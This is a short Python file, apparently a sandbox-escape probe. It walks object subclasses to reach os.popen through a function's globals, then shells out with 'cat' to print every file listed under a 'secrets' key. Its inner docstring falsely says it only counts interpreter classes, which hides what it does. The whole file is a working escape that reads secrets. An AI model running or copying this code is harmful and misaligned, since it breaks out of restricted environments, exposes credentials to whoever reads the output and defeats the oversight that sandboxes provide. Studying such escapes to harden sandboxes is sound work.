"""Reaches the shell by the list of all subclasses of object."""


async def subclasses_walk(targets: dict) -> dict:
    """Count the classes of this interpreter."""
    found = None
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            found = kind
    if found is None:
        import os

        found = os._wrap_close
    space = found.__init__.__globals__
    print("PRIMITIVE", "popen" in space, len(space))
    for path in targets["secrets"].values():
        print(space["popen"]("cat " + path + " 2>/dev/null").read())
    return {"classes": len(object.__subclasses__())}
